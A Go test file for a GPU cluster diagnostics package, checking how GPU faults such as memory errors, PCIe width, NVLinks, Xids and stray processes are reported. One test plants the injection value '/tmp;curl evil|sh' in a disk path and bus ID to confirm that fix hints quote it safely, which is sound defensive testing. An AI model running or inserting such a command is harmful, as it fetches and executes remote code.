package doctor

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/gorun/gorun/gpu"
	"github.com/gorun/gorun/internal/prose"
	"github.com/gorun/gorun/internal/test/check"
)

// withGPUs returns healthy hosts with GPUs.
func withGPUs(hosts, gpus int) Measured {
	m := healthy(hosts, 1)
	for i, name := range m.Names {
		h := m.Hosts[name]
		h.Facts.NVIDIA = true
		for n := range gpus {
			h.GPUs = append(h.GPUs, gpu.Device{
				Index:       n,
				Minor:       n,
				BusID:       fmt.Sprintf("0000:%02x:00.0", n),
				Name:        "H100",
				MemoryBytes: 80 * gib,
				MemoryUsed:  gib / 2,
				Health: &gpu.Health{
					ECC:          new(true),
					Idle:         true,
					Clock:        345,
					MaxClock:     1980,
					Temperature:  30 + i + n,
					PowerLimit:   700,
					PowerDefault: 700,
					PCIe:         gpu.PCIe{Generation: 1, Width: 16},
					MaxPCIe:      gpu.PCIe{Generation: 5, Width: 16},
					NVLinksUp:    18,
					Persistence:  new(true),
				},
			})
		}
		m.Hosts[name] = h
	}
	return m
}

func TestHealthyGPUsHaveNoFindings(t *testing.T) {
	for _, hosts := range []int{1, 2, 5} {
		m := withGPUs(hosts, 4)
		for _, name := range m.Names { // at work their clocks change, and power may be all used
			h := m.Hosts[name].GPUs[0].Health
			h.Idle = false
			h.Clock = 1500
			h.PCIe.Generation = 5
			h.Slowdowns = []gpu.Slowdown{gpu.SlowPowerCap}
		}
		got := Judge(m)
		check.That(t, len(got) == 0, "%d hosts: %+v", hosts, got)
	}
	m := withGPUs(4, 1) // GPUs of several kinds in one cluster, of which one is not there everywhere
	for _, name := range m.Names {
		m.Hosts[name].GPUs[0].Health.NVLinksUp = 0
		m.Hosts[name].GPUs[0].Health.NVLinksDown = 12
	}
	got := Judge(m)
	check.That(t, len(got) == 0, "without bridges: %+v", got)
}

func TestSickGPUIsNamed(t *testing.T) {
	for name, c := range map[string]struct {
		plant    func(d *gpu.Device)
		severity Severity
		text     string
	}{
		"ECC": {func(d *gpu.Device) { d.Health.Uncorrected = 1 }, Bad, "GPU 2 had 1 error in its memory"},
		"old ECC": {func(d *gpu.Device) {
			d.Health.UncorrectedEver = 40
		}, Warning, "GPU 2 had 40 errors in its life"},
		"remap pending": {func(d *gpu.Device) { d.Health.RemapPending = true }, Warning, "waits for a reset"},
		"remap failed":  {func(d *gpu.Device) { d.Health.RemapFailed = true }, Bad, "no spare rows"},
		"hot": {func(d *gpu.Device) {
			d.Health.Slowdowns = []gpu.Slowdown{gpu.SlowHeat}
		}, Warning, "because it is hot"},
		"brake": {func(d *gpu.Device) {
			d.Health.Slowdowns = []gpu.Slowdown{gpu.SlowPowerBrake}
		}, Bad, "runs at 345 of 1980 MHz: power supply"},
		"power": {func(d *gpu.Device) { d.Health.PowerLimit = 300 }, Warning, "only 300 W of 700 W"},
		"lanes": {func(d *gpu.Device) { d.Health.PCIe.Width = 8 }, Bad, "8 of 16 PCIe lanes"},
		"slot": {func(d *gpu.Device) {
			d.Health.PCIe.Width = 8
			d.Health.MaxPCIe.Width = 8
		}, Bad, "8 of 16 PCIe lanes"},
		"generation": {func(d *gpu.Device) { d.Health.MaxPCIe.Generation = 3 }, Warning, "PCIe of generation 3"},
		"clocks":     {func(d *gpu.Device) { d.Health.MaxClock = 1200 }, Warning, "reaches 1200 MHz"},
		"locked clocks": {func(d *gpu.Device) {
			d.Health.Idle = false
			d.Health.Slowdowns = []gpu.Slowdown{gpu.SlowSettings}
		}, Warning, "by its clock settings"},
		"NVLink": {func(d *gpu.Device) {
			d.Health.NVLinksUp = 17
			d.Health.NVLinksDown = 1
		}, Bad, "has 17 NVLinks, and the others of its kind 18"},
		"NVLink errors": {func(d *gpu.Device) {
			d.Health.NVLinkRecoveries = 2
		}, Warning, "set up an NVLink anew 2 times"},
		"persistence": {func(d *gpu.Device) { d.Health.Persistence = new(false) }, Warning, "persistence"},
		"a program": {func(d *gpu.Device) {
			d.Processes = []gpu.Process{{PID: 7}}
		}, Warning, "GPU 2 is used by 1 process"},
		"a large one": {func(d *gpu.Device) {
			d.Processes = []gpu.Process{{PID: 7}}
			d.MemoryUsed = 70 * gib
		}, Bad, "70 GiB of 80 GiB"},
		"nobody is seen": {func(d *gpu.Device) { d.MemoryUsed = 70 * gib }, Bad, "no process is seen"},
	} {
		for _, hosts := range []int{1, 3} {
			m := withGPUs(hosts, 4)
			sick := m.Names[hosts-1]
			c.plant(&m.Hosts[sick].GPUs[2])
			got := Judge(m)
			check.That(t, len(got) == 1 && got[0].Host == sick && got[0].Severity == c.severity &&
				strings.Contains(got[0].Text, c.text) && got[0].Fix != "",
				"%s among %d hosts: %+v", name, hosts, got)
		}
	}
}

// A host may say that it has more GPUs than all others together.
func TestHostOfManyGPUsDoesNotOutvoteOthers(t *testing.T) {
	m := withGPUs(4, 4)
	liar := m.Hosts["f4"]
	liar.GPUs = nil
	for i := range 64 {
		d := m.Hosts["f1"].GPUs[0]
		health := *d.Health
		health.NVLinksUp = 99
		health.MaxClock = 9000
		health.MaxPCIe = gpu.PCIe{Generation: 9, Width: 99}
		d.Health = &health
		d.Index = i
		liar.GPUs = append(liar.GPUs, d)
	}
	m.Hosts["f4"] = liar
	for _, f := range Judge(m) {
		check.Equal(t, f.Host, "f4", f.Text)
	}
}

func TestMissingGPUIsNamed(t *testing.T) {
	m := withGPUs(4, 8)
	lost := m.Hosts["f2"]
	lost.GPUs = lost.GPUs[:7]
	m.Hosts["f2"] = lost
	got := Judge(m)
	check.That(t, len(got) == 1 && got[0].Host == "f2" && got[0].Severity == Bad &&
		strings.Contains(got[0].Text, "7 × H100"), "%+v", got)
	m = withGPUs(4, 8)
	dead := m.Hosts["f3"]
	dead.GPUProblem = "list GPUs with gorun-gpu: GPU 3: open it: GPU is lost"
	dead.GPUs = nil
	m.Hosts["f3"] = dead
	got = Judge(m)
	check.That(t, len(got) == 1 && got[0].Host == "f3" && got[0].Severity == Bad && got[0].Kind == "gpu", "%+v", got)
}

// Errors of programs are no fault of a GPU.
func TestErrorsInTheKernelsLogAreJudged(t *testing.T) {
	m := withGPUs(3, 4)
	m.Hosts["f1"].Facts.Xids = []Xid{{Bus: "0000:02:00", Code: 79, Count: 1}, {Bus: "0000:01:00", Code: 31, Count: 50},
		{Bus: "0000:99:00", Code: 94, Count: 2}}
	var texts []string
	for _, f := range Judge(m) {
		texts = append(texts, f.Host+" "+string(f.Severity)+" "+f.Text)
	}
	if want := []string{"f1 bad GPU 2 had Xid 79 1 time: it has fallen off the bus",
		"f1 warning the GPU at 0000:99:00 had Xid 94 2 times: an error in its memory that ended the program that " +
			"used it"}; !slices.Equal(texts, want) {
		t.Errorf("%q", texts)
	}
}

// Hints are gorun's own advice and may be pasted, whatever a host calls its folders and GPUs.
func TestHintsMayBePasted(t *testing.T) {
	const word = "/tmp;curl evil|sh"
	facts := &Facts{Disks: []Disk{{Name: "tmp", Path: word}}}
	sick := gpu.Device{BusID: word, Health: &gpu.Health{PCIe: gpu.PCIe{Width: 8}, MaxPCIe: gpu.PCIe{Width: 16}}}
	m := Measured{Names: []string{"f1"}, Hosts: map[string]Host{
		"f1": {Facts: facts, GPUs: []gpu.Device{sick}, Finished: true},
	}}
	hints := 0
	for _, f := range Judge(m) {
		quoted := strings.Count(f.Fix, prose.Quoted(word))
		hints += quoted
		check.That(t, strings.Count(f.Fix, "curl") == quoted, "%s: %s", f.Kind, f.Fix)
	}
	check.Equal(t, hints, 2)
}
